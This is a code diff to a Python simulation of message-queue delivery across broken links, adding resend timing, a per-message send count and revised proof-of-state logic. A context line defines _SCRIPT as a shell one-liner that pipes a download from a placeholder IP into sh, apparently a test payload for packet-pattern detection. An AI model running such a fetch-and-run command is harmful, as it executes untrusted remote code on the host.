@@ -170,6 +170,8 @@ _GROUP: Final = GUID(b"price list queue")
 _TARIFF: Final = 0x15
 _WATCH: Final = 4 * _HOUR
 """Seconds in which a link breaks once while messages are under way."""
+_OUTAGE: Final = 5
+"""Seconds after which messages in transit are sent again."""
 _SHORT: Final = 30
 """Seconds in which some messages have to reach their queue."""
 _ADMINISTRATION, _ANSWERS = 0x31, 0x32
@@ -216,10 +218,11 @@ class Outcome(NamedTuple):
             ``sent``.
         dead_lettered: Whether its sender put it into a dead-letter queue.
         hops: Number of hops that were captured completely.
-        state: The state in `deliveries` that captured packets prove; ``unseen`` if no packet of it was
-            captured.
-        certain: Whether every byte was captured of the sessions in which it was sent, and of all packets
-            about it; if no answer was captured, of all sessions between these queue managers.
+        sent: How often it was sent over one of these hops; of several the most.
+        state: The state in `deliveries` that completely captured packets prove; ``unseen`` if there is no
+            such packet of it or about it, and so no row.
+        certain: Whether every byte was captured of the sessions in which it was sent, of all packets about
+            it, and of its copies; if no answer was captured, of all sessions between these queue managers.
     """
 
     message: str
@@ -233,6 +236,7 @@ class Outcome(NamedTuple):
     fate: str
     dead_lettered: bool
     hops: int
+    sent: int
     state: str
     certain: bool
 
@@ -546,14 +550,25 @@ class Rehearsal:
         span = self._end - _START
         for number in range(int(span // _WATCH)):
             at = _START + (number + self._more.uniform(0.2, 0.8)) * _WATCH
-            self._plan_silence(at, 4 * _SHORT, reach_queue=_SHORT)
+            self._plan_silence(at, 4 * _SHORT, **_ASKS, reach_queue=_SHORT)
+            at = _START + (number + self._more.uniform(0.2, 0.8)) * _WATCH
+            self._plan_silence(at, _OUTAGE, recoverable=bool(number % 2))
         for share in (4, 6, 8):
             self._plan_silence(self._end - min(_MINUTE, span) / share, span)
 
     def _plan_silence(self, at: float, outage: float, **options: Any) -> None:
-        """Plan messages of the hub that are in transit when the link breaks, and are never answered."""
+        """Plan messages of the hub that are in transit when the link breaks.
+
+        They are sent again when it is mended, unless their time has ended by then.
+        """
         branch = self._more.choice(self._names[len(_CENTER) :])
-        message = Message(_private(self._net.hosts[branch], _TARIFF), b"tariff", label="tariff", **options)
+        message = Message(
+            _private(self._net.hosts[branch], _TARIFF),
+            b"tariff",
+            label="tariff",
+            admin_queue=self._admin_queue("hub", options),
+            **options,
+        )
         for before in (_MINUTE / 240, 3e-6, 2e-6, 1e-6):  # the first one opens a session
             self._net.at(at - before, lambda: self._net.send("hub", branch, message))
         self._net.at(at, partial(self._net.break_link, branch, "hub", outage))
@@ -785,12 +800,18 @@ class Rehearsal:
 
     def outcomes(self) -> Iterator[Outcome]:
         """Yield the outcome of each message, after `run`."""
+        moved: dict[str, list[bool]] = {}
+        for copy in self.copies():
+            moved.setdefault(copy.message, []).append(copy.captured)
         for copies in self._messages():
             first = copies[0]
             destination, home = next(iter(first.queues.items()))
             stated = [self._stated(letter) for letter in copies]
             captured = [row for letter in copies for row in letter.captured.values()]
             unsent = sum(map(bool, first.queues.values())) - len(copies)
+            proved = worst([*stated, *["unseen"] * unsent])
+            if proved == "unseen" and any(moved.get(first.message, ())):
+                proved = "unknown"  # its copy from a dead-letter queue or a journal was captured
             yield Outcome(
                 first.message,
                 first.source,
@@ -803,8 +824,10 @@ class Rehearsal:
                 worst([*(letter.fate for letter in copies), *["sent"] * unsent]),
                 any(letter.has_been("dead-lettered") for letter in copies),
                 len({row.hop for row in captured if row.what == "carried"}),
-                worst([*stated, *["unseen"] * unsent]),
-                all(
+                max(map(_times_sent, copies)),
+                proved,
+                all(moved.get(first.message, ()))
+                and all(
                     self._is_certain(letter, statements)
                     for letter, statements in zip(copies, stated, strict=True)
                 ),
@@ -909,6 +932,14 @@ _OPENED: Final = frozenset({"no-handshake", "length-beyond-packet"})
 """The patterns that need the beginning of the connection."""
 _LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
 _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
+
+
+def _times_sent(letter: Letter) -> int:
+    """Return in how many sessions a message was sent over the same hop; of several hops the most."""
+    sessions = {
+        (row.hop, row.line.partition(" ")[0]) for row in letter.captured.values() if row.what == "carried"
+    }
+    return max(Counter(hop for hop, _ in sessions).values(), default=0)
 
 
 def _is_seen(letter: Letter) -> bool:
